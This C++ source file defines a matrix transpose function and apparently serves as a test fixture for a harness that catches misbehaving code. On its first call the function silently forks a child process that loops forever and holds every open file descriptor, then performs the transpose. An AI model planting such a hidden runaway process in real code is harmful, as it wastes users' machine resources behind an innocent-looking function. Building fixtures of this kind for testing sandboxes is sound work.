// gets: failed
// A child that computes for ever and holds every descriptor.
#include "transpose.hpp"

#include <unistd.h>

namespace kit {

void transpose(std::span<const float> in, std::span<float> out, std::size_t rows,
               std::size_t cols) {
  static bool done = false;
  if (!done && ::fork() == 0) {
    for (volatile int i = 0;; i = i + 1) {
    }
  }
  done = true;
  for (std::size_t i = 0; i < rows; ++i) {
    for (std::size_t j = 0; j < cols; ++j) out[j * rows + i] = in[i * cols + j];
  }
}

}  // namespace kit
